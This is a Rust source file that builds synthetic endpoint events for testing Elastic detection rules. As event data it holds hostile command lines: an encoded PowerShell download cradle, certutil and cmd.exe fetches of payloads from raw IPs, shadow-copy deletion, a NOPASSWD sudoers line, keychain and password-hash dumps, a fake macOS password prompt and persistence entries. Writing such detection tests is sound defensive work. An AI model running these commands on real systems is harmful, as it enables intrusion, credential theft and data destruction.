//! Injected attack scenarios: short event stories that real rules of Elastic's
//! detection-rules catalogue detect. Each was crafted from the rule's query text
//! (paths under `rules/` of the catalogue) so that it matches exactly, the way
//! Elastic Defend / the system integration would record the activity.
//!
//! | scenario | OS | events | rule_id | rule file |
//! |---|---|---|---|---|
//! | `ssh_keygen` | linux | 3 (2 match) | 7df3cb8b-5c0c-4228-b772-bb6cd619053c | linux/persistence_ssh_key_generation.toml |
//! | `macos_hash_dump` | macos | 1 | 02ea4563-ec10-4974-b7de-12e65aa4f9b3 | macos/credential_access_dumping_hashes_bi_cmds.toml |
//! | `powershell_encoded` | windows | 1 | 83bf249e-4348-47ba-9741-1202a09556ad | windows/execution_windows_powershell_susp_args.toml |
//! | `certutil_download` | windows | 1 | fd70c98a-c410-42dc-a2e3-761c71848acf | windows/defense_evasion_suspicious_certutil_commands.toml |
//! | `vssadmin_delete` | windows | 1 | b5ea4bfe-a1b2-421f-9d47-22a75a6f2921 | windows/impact_volume_shadow_copy_deletion_or_resized_via_vssadmin.toml |
//! | `webshell_whoami` | windows | 1 | ef862985-3f13-4262-a686-5f357bbb9bc2 | windows/discovery_whoami_command_activity.toml |
//! | `cmd_http_connection` | windows | 2 (sequence) | 89f9a4b0-9f8f-4ee0-8823-c4751a6d6696 | windows/execution_command_prompt_connecting_to_the_internet.toml |
//! | `msbuild_connection` | windows | 2 (sequence) | 0e79980b-4250-4a50-a509-69294c14e84b | windows/defense_evasion_msbuild_making_network_connections.toml |
//! | `run_key` | windows | 1 | 97fc44d3-8dae-4019-ae83-298c3015600f | windows/persistence_run_key_and_startup_broad.toml |
//! | `log_cleared` | windows | 1 (KQL) | 45ac4800-840f-414c-b221-53dd36a5aaf7 | windows/defense_evasion_clearing_windows_security_logs.toml |
//! | `webserver_shell` | linux | 1 | 6148b9f5-5b12-4704-9ef7-f4b4c5dd9bb5 | linux/persistence_webserver_suspicious_command_execution.toml |
//! | `curl_ip_discovery` | linux | 1 | 996e2e09-087e-4e99-a3cc-a9225d24ba3d | linux/discovery_curl_external_ip_discovery.toml |
//! | `cron_file` | linux | 1 | ff10d4d8-fea7-422d-afb1-e5a2702369a9 | linux/persistence_cron_job_creation.toml |
//! | `sudoers_echo` | linux | 1 (KQL) | 76152ca1-71d0-4003-9e37-0983e12832da | cross-platform/privilege_escalation_echo_nopasswd_sudoers.toml |
//! | `ssh_bruteforce` | linux | 61 (sequences, runs) | 8cb84371-d053-4f4f-bce0-c74990e28f28, fa210b61-b627-4e5e-86f4-17e8270656ab | linux/credential_access_potential_successful_linux_ssh_bruteforce.toml, linux/credential_access_potential_linux_ssh_bruteforce_external.toml |
//! | `osascript_prompt` | macos | 1 | 38948d29-3d5d-42e3-8aec-be832aaaf8eb | macos/credential_access_promt_for_pwd_via_osascript.toml |
//! | `keychain_dump` | macos | 1 | 565d6ca5-75ba-4c82-9b13-add25353471c | macos/credential_access_dumping_keychain_security.toml |
//! | `login_hook` | macos | 1 (KQL) | ac412404-57a5-476f-858f-4e8fbb4f48d8 | macos/persistence_loginwindow_plist_modification.toml |
//! | `dns_ip_lookup_unsigned` | macos | 1 | 47e46d85-3963-44a0-b856-bccff48f8676 | macos/discovery_dns_request_for_ip_lookup_service.toml |
//!
//! Near misses live in the benign stream: `ssh-keygen -R` writing
//! `~/.ssh/known_hosts.old` (excluded by the SSH key rule), `defaults read
//! com.apple.dock`, `whoami` by an ordinary user, `osascript` notifications,
//! `cmd.exe /c …\logon.bat` that never connects out, the Run key written by SYSTEM.

use crate::benign::{auth_doc, dns_doc, file_doc, network_doc, process_start_doc, registry_doc};
use crate::doc::Doc;
use crate::events::{new_process, parent_named, Spawn, Stamp};
use crate::fleet::{Host, Os, Proc};

/// Documents of one injection, each with its offset from the start in ms.
pub type Story = Vec<(i64, Doc)>;

pub struct Scenario {
    pub name: &'static str,
    pub os: Os,
    /// Rules that detect it (rule_id, catalogue path under `rules/`).
    pub rules: &'static [(&'static str, &'static str)],
    /// Alerts per injection, per rule in `rules` order.
    pub alerts: &'static [u32],
    pub build: fn(&mut Host, Stamp) -> Story,
}

macro_rules! scenario {
    ($name:ident, $os:expr, [$(($id:expr, $file:expr)),+], [$($n:expr),+]) => {
        Scenario { name: stringify!($name), os: $os, rules: &[$(($id, $file)),+], alerts: &[$($n),+], build: $name }
    };
}

pub const SCENARIOS: &[Scenario] = &[
    scenario!(
        ssh_keygen,
        Os::Linux,
        [(
            "7df3cb8b-5c0c-4228-b772-bb6cd619053c",
            "linux/persistence_ssh_key_generation.toml"
        )],
        [2]
    ),
    scenario!(
        macos_hash_dump,
        Os::Macos,
        [(
            "02ea4563-ec10-4974-b7de-12e65aa4f9b3",
            "macos/credential_access_dumping_hashes_bi_cmds.toml"
        )],
        [1]
    ),
    scenario!(
        powershell_encoded,
        Os::Windows,
        [(
            "83bf249e-4348-47ba-9741-1202a09556ad",
            "windows/execution_windows_powershell_susp_args.toml"
        )],
        [1]
    ),
    scenario!(
        certutil_download,
        Os::Windows,
        [(
            "fd70c98a-c410-42dc-a2e3-761c71848acf",
            "windows/defense_evasion_suspicious_certutil_commands.toml"
        )],
        [1]
    ),
    scenario!(
        vssadmin_delete,
        Os::Windows,
        [(
            "b5ea4bfe-a1b2-421f-9d47-22a75a6f2921",
            "windows/impact_volume_shadow_copy_deletion_or_resized_via_vssadmin.toml"
        )],
        [1]
    ),
    scenario!(
        webshell_whoami,
        Os::Windows,
        [(
            "ef862985-3f13-4262-a686-5f357bbb9bc2",
            "windows/discovery_whoami_command_activity.toml"
        )],
        [1]
    ),
    scenario!(
        cmd_http_connection,
        Os::Windows,
        [(
            "89f9a4b0-9f8f-4ee0-8823-c4751a6d6696",
            "windows/execution_command_prompt_connecting_to_the_internet.toml"
        )],
        [1]
    ),
    scenario!(
        msbuild_connection,
        Os::Windows,
        [(
            "0e79980b-4250-4a50-a509-69294c14e84b",
            "windows/defense_evasion_msbuild_making_network_connections.toml"
        )],
        [1]
    ),
    scenario!(
        run_key,
        Os::Windows,
        [(
            "97fc44d3-8dae-4019-ae83-298c3015600f",
            "windows/persistence_run_key_and_startup_broad.toml"
        )],
        [1]
    ),
    scenario!(
        log_cleared,
        Os::Windows,
        [(
            "45ac4800-840f-414c-b221-53dd36a5aaf7",
            "windows/defense_evasion_clearing_windows_security_logs.toml"
        )],
        [1]
    ),
    scenario!(
        webserver_shell,
        Os::Linux,
        [(
            "6148b9f5-5b12-4704-9ef7-f4b4c5dd9bb5",
            "linux/persistence_webserver_suspicious_command_execution.toml"
        )],
        [1]
    ),
    scenario!(
        curl_ip_discovery,
        Os::Linux,
        [(
            "996e2e09-087e-4e99-a3cc-a9225d24ba3d",
            "linux/discovery_curl_external_ip_discovery.toml"
        )],
        [1]
    ),
    scenario!(
        cron_file,
        Os::Linux,
        [(
            "ff10d4d8-fea7-422d-afb1-e5a2702369a9",
            "linux/persistence_cron_job_creation.toml"
        )],
        [1]
    ),
    scenario!(
        sudoers_echo,
        Os::Linux,
        [(
            "76152ca1-71d0-4003-9e37-0983e12832da",
            "cross-platform/privilege_escalation_echo_nopasswd_sudoers.toml"
        )],
        [1]
    ),
    scenario!(
        ssh_bruteforce,
        Os::Linux,
        [
            (
                "8cb84371-d053-4f4f-bce0-c74990e28f28",
                "linux/credential_access_potential_successful_linux_ssh_bruteforce.toml"
            ),
            (
                "fa210b61-b627-4e5e-86f4-17e8270656ab",
                "linux/credential_access_potential_linux_ssh_bruteforce_external.toml"
            )
        ],
        [1, 1]
    ),
    scenario!(
        osascript_prompt,
        Os::Macos,
        [(
            "38948d29-3d5d-42e3-8aec-be832aaaf8eb",
            "macos/credential_access_promt_for_pwd_via_osascript.toml"
        )],
        [1]
    ),
    scenario!(
        keychain_dump,
        Os::Macos,
        [(
            "565d6ca5-75ba-4c82-9b13-add25353471c",
            "macos/credential_access_dumping_keychain_security.toml"
        )],
        [1]
    ),
    scenario!(
        login_hook,
        Os::Macos,
        [(
            "ac412404-57a5-476f-858f-4e8fbb4f48d8",
            "macos/persistence_loginwindow_plist_modification.toml"
        )],
        [1]
    ),
    scenario!(
        dns_ip_lookup_unsigned,
        Os::Macos,
        [(
            "47e46d85-3963-44a0-b856-bccff48f8676",
            "macos/discovery_dns_request_for_ip_lookup_service.toml"
        )],
        [1]
    ),
];

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// Starts `name` (at `exe`) with `args` under `parent`, as user `user`.
fn start(
    host: &mut Host,
    stamp: Stamp,
    (name, exe): (&str, &str),
    args: Vec<String>,
    parent: &Proc,
    user: usize,
    original: Option<&str>,
) -> (Doc, Proc) {
    let spawn = Spawn {
        name: name.to_string(),
        executable: exe.to_string(),
        args,
        user,
        signer: signer_for(host.os, exe),
    };
    process_start_doc(
        host,
        stamp,
        "endpoint.events.process",
        spawn,
        parent,
        original,
    )
}

fn signer_for(os: Os, exe: &str) -> Option<&'static str> {
    match os {
        Os::Windows if exe.starts_with("C:\\Windows\\") => Some("Microsoft Windows"),
        Os::Macos if exe.starts_with("/usr/") || exe.starts_with("/bin/") => {
            Some("Software Signing")
        }
        _ => None,
    }
}

fn ssh_keygen(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let home = host.home(user);
    let key = format!("{home}/.ssh/id_ed25519");
    let args = strings(&["ssh-keygen", "-t", "ed25519", "-N", "", "-f", &key]);
    let parent = parent_named(host, "bash", stamp.ts_ms);
    let (start_doc, p) = start(
        host,
        stamp,
        ("ssh-keygen", "/usr/bin/ssh-keygen"),
        args,
        &parent,
        user,
        None,
    );
    let private = file_doc(host, stamp.shifted(40), &p, &key, "creation", "creation");
    let public = file_doc(
        host,
        stamp.shifted(41),
        &p,
        &format!("{key}.pub"),
        "creation",
        "creation",
    );
    vec![(0, start_doc), (40, private), (41, public)]
}

fn macos_hash_dump(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let victim = host.users[user].name.clone();
    let plist = format!("/var/db/dslocal/nodes/Default/users/{victim}.plist");
    let (name, exe, args) = match host.rng.below(3) {
        0 => (
            "defaults",
            "/usr/bin/defaults",
            strings(&["defaults", "read", &plist, "ShadowHashData"]),
        ),
        1 => (
            "mkpassdb",
            "/usr/sbin/mkpassdb",
            strings(&["mkpassdb", "-dump"]),
        ),
        _ => (
            "plutil",
            "/usr/bin/plutil",
            strings(&["plutil", "-p", &plist]),
        ),
    };
    let parent = parent_named(host, "zsh", stamp.ts_ms);
    vec![(0, start(host, stamp, (name, exe), args, &parent, 0, None).0)]
}

const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

fn powershell_encoded(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA4ADUALgAxADUANAAuADUAMwAuADEAMgAvAGEAJwApAA==";
    let args = strings(&[PS, "-NoProfile", "-WindowStyle", "Hidden", "-enc", payload]);
    let parent = parent_named(host, "explorer.exe", stamp.ts_ms);
    vec![(
        0,
        start(
            host,
            stamp,
            ("powershell.exe", PS),
            args,
            &parent,
            user,
            Some("PowerShell.EXE"),
        )
        .0,
    )]
}

fn certutil_download(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let exe = "C:\\Windows\\System32\\certutil.exe";
    let drop = format!("{}\\AppData\\Local\\Temp\\upd.exe", host.home(user));
    let args = strings(&[
        exe,
        "-urlcache",
        "-split",
        "-f",
        "http://185.154.53.12/upd.bin",
        &drop,
    ]);
    let parent = parent_named(host, "cmd.exe", stamp.ts_ms);
    vec![(
        0,
        start(
            host,
            stamp,
            ("certutil.exe", exe),
            args,
            &parent,
            user,
            Some("CertUtil.exe"),
        )
        .0,
    )]
}

fn vssadmin_delete(host: &mut Host, stamp: Stamp) -> Story {
    let exe = "C:\\Windows\\System32\\vssadmin.exe";
    let args = strings(&[exe, "delete", "shadows", "/all", "/quiet"]);
    let parent = parent_named(host, "cmd.exe", stamp.ts_ms);
    vec![(
        0,
        start(
            host,
            stamp,
            ("vssadmin.exe", exe),
            args,
            &parent,
            0,
            Some("VSSADMIN.EXE"),
        )
        .0,
    )]
}

fn webshell_whoami(host: &mut Host, stamp: Stamp) -> Story {
    let exe = "C:\\Windows\\System32\\whoami.exe";
    let w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
    let parent_spawn = Spawn {
        name: "w3wp.exe".into(),
        executable: w3wp.into(),
        args: strings(&[
            w3wp,
            "-ap",
            "DefaultAppPool",
            "-v",
            "v4.0",
            "-l",
            "webengine4.dll",
        ]),
        user: 0,
        signer: Some("Microsoft Windows"),
    };
    let parent = new_process(host, parent_spawn, stamp.ts_ms - 86_400_000);
    let (mut d, _) = start(
        host,
        stamp,
        ("whoami.exe", exe),
        strings(&[exe]),
        &parent,
        0,
        Some("whoami.exe"),
    );
    d.set("user.name", "DefaultAppPool")
        .set("user.domain", "IIS APPPOOL")
        .set(
            "user.id",
            "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415",
        );
    vec![(0, d)]
}

/// A public address outside every range the catalogue's `cidrmatch` lists exclude.
const C2: (&str, u64) = ("45.133.1.20", 80);

fn cmd_http_connection(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let exe = "C:\\Windows\\System32\\cmd.exe";
    let args = strings(&[
        exe,
        "/c",
        "\\\\45.133.1.20@80\\DavWWWRoot\\run.bat",
        "http://45.133.1.20/run.bat",
    ]);
    let parent = parent_named(host, "explorer.exe", stamp.ts_ms);
    let (d, p) = start(
        host,
        stamp,
        ("cmd.exe", exe),
        args,
        &parent,
        user,
        Some("Cmd.Exe"),
    );
    let port = host.rng.range(49_152, 65_535);
    let net = network_doc(
        host,
        stamp.shifted(2_000),
        &p,
        "connection_attempted",
        "start",
        C2,
        port,
    );
    vec![(0, d), (2_000, net)]
}

fn msbuild_connection(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let exe = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe";
    let proj = format!("{}\\AppData\\Local\\Temp\\build.csproj", host.home(user));
    let args = strings(&[exe, &proj, "/nologo"]);
    let parent = parent_named(host, "explorer.exe", stamp.ts_ms);
    let (d, p) = start(
        host,
        stamp,
        ("MSBuild.exe", exe),
        args,
        &parent,
        user,
        Some("MSBuild.exe"),
    );
    let port = host.rng.range(49_152, 65_535);
    let net = network_doc(
        host,
        stamp.shifted(3_000),
        &p,
        "connection_attempted",
        "start",
        ("185.154.53.12", 443),
        port,
    );
    vec![(0, d), (3_000, net)]
}

fn run_key(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let home = host.home(user);
    let spawn = Spawn {
        name: "invoice.exe".into(),
        executable: format!("{home}\\Downloads\\invoice.exe"),
        args: vec![format!("{home}\\Downloads\\invoice.exe")],
        user,
        signer: None,
    };
    let p = new_process(host, spawn, stamp.ts_ms - 5_000);
    let sid = host.users[user].id.clone();
    let key = format!("{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
    let data = format!("{home}\\AppData\\Roaming\\OneDriveUpdate\\odu.exe");
    let d = registry_doc(
        host,
        stamp,
        &p,
        user,
        ("HKEY_USERS", &key, "OneDriveUpdate"),
        &data,
    );
    vec![(0, d)]
}

fn log_cleared(host: &mut Host, stamp: Stamp) -> Story {
    use crate::events::{header, Kind};
    let kind = Kind {
        dataset: "system.security",
        category: &["iam"],
        types: &["admin", "change"],
        action: "audit-log-cleared",
    };
    let user = host.person();
    let mut d = header(host, stamp, &kind);
    let u = host.users[user].clone();
    d.set("event.code", "1102")
        .set("event.provider", "Microsoft-Windows-Eventlog")
        .set("winlog.event_id", "1102")
        .set("winlog.channel", "Security")
        .set("winlog.provider_name", "Microsoft-Windows-Eventlog")
        .set(
            "winlog.computer_name",
            format!("{}.corp.example", host.name),
        )
        .set("winlog.user_data.SubjectUserName", u.name.clone())
        .set("winlog.user_data.SubjectDomainName", u.domain.clone())
        .set("user.name", u.name)
        .set("user.domain", u.domain)
        .set("user.id", u.id);
    vec![(0, d)]
}

fn webserver_shell(host: &mut Host, stamp: Stamp) -> Story {
    let parent_spawn = Spawn {
        name: "nginx".into(),
        executable: "/usr/sbin/nginx".into(),
        args: strings(&["nginx: worker process"]),
        user: 0,
        signer: None,
    };
    let parent = new_process(host, parent_spawn, stamp.ts_ms - 86_400_000);
    let args = strings(&["sh", "-c", "whoami"]);
    let (mut d, _) = start(host, stamp, ("sh", "/usr/bin/sh"), args, &parent, 0, None);
    d.set("user.name", "www-data")
        .set("user.id", "33")
        .set("process.working_directory", "/var/www/html");
    vec![(0, d)]
}

fn curl_ip_discovery(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let parent = parent_named(host, "bash", stamp.ts_ms);
    let args = strings(&["curl", "-s", "ifconfig.me"]);
    vec![(
        0,
        start(
            host,
            stamp,
            ("curl", "/usr/bin/curl"),
            args,
            &parent,
            user,
            None,
        )
        .0,
    )]
}

fn cron_file(host: &mut Host, stamp: Stamp) -> Story {
    let spawn = Spawn {
        name: "tee".into(),
        executable: "/usr/bin/tee".into(),
        args: strings(&["tee", "/etc/cron.d/sysupdate"]),
        user: 0,
        signer: None,
    };
    let p = new_process(host, spawn, stamp.ts_ms - 15);
    vec![(
        0,
        file_doc(
            host,
            stamp,
            &p,
            "/etc/cron.d/sysupdate",
            "creation",
            "creation",
        ),
    )]
}

fn sudoers_echo(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let line = format!("{} ALL=(ALL) NOPASSWD: ALL", host.users[user].name);
    let parent = parent_named(host, "bash", stamp.ts_ms);
    let args = strings(&["echo", &line]);
    vec![(
        0,
        start(
            host,
            stamp,
            ("echo", "/usr/bin/echo"),
            args,
            &parent,
            0,
            None,
        )
        .0,
    )]
}

/// 60 failed password logins in about 10 s from one outside address, then a success.
fn ssh_bruteforce(host: &mut Host, stamp: Stamp) -> Story {
    let ip = format!("185.220.101.{}", host.rng.range(2, 250));
    let mut story = Vec::with_capacity(61);
    let mut at = 0;
    for _ in 0..60 {
        let port = host.rng.range(30_000, 65_000);
        story.push((
            at,
            auth_doc(host, stamp.shifted(at), "admin", &ip, port, false),
        ));
        at += host.rng.range(100, 230) as i64;
    }
    at += 500;
    let port = host.rng.range(30_000, 65_000);
    story.push((
        at,
        auth_doc(host, stamp.shifted(at), "admin", &ip, port, true),
    ));
    story
}

fn osascript_prompt(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let bash = Spawn {
        name: "bash".into(),
        executable: "/bin/bash".into(),
        args: strings(&["/bin/bash", "/tmp/.helper/install.sh"]),
        user,
        signer: Some("Software Signing"),
    };
    let parent = new_process(host, bash, stamp.ts_ms - 900);
    let script = "display dialog \"macOS wants to make changes. Enter your password to allow this.\" default answer \"\" with hidden answer with title \"System Preferences\"";
    let args = strings(&["osascript", "-e", script]);
    let (mut d, _) = start(
        host,
        stamp,
        ("osascript", "/usr/bin/osascript"),
        args,
        &parent,
        user,
        None,
    );
    d.set("process.Ext.effective_parent.executable", "/bin/bash")
        .set("process.Ext.effective_parent.name", "bash");
    vec![(0, d)]
}

fn keychain_dump(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let kc = format!("{}/Library/Keychains/login.keychain-db", host.home(user));
    let args = strings(&["security", "dump-keychain", "-d", &kc]);
    let parent = parent_named(host, "zsh", stamp.ts_ms);
    vec![(
        0,
        start(
            host,
            stamp,
            ("security", "/usr/bin/security"),
            args,
            &parent,
            user,
            None,
        )
        .0,
    )]
}

fn login_hook(host: &mut Host, stamp: Stamp) -> Story {
    let spawn = Spawn {
        name: "defaults".into(),
        executable: "/usr/bin/defaults".into(),
        args: strings(&[
            "defaults",
            "write",
            "com.apple.loginwindow",
            "LoginHook",
            "/Users/Shared/.hook.sh",
        ]),
        user: 0,
        signer: Some("Software Signing"),
    };
    let p = new_process(host, spawn, stamp.ts_ms - 30);
    let path = "/var/root/Library/Preferences/com.apple.loginwindow.plist";
    vec![(0, file_doc(host, stamp, &p, path, "modification", "change"))]
}

fn dns_ip_lookup_unsigned(host: &mut Host, stamp: Stamp) -> Story {
    let user = host.person();
    let exe = format!(
        "{}/Library/Application Support/.agent/agentd",
        host.home(user)
    );
    let spawn = Spawn {
        name: "agentd".into(),
        executable: exe.clone(),
        args: vec![exe],
        user,
        signer: None,
    };
    let p = new_process(host, spawn, stamp.ts_ms - 2_000);
    vec![(0, dns_doc(host, stamp, &p, "api.ipify.org", true))]
}
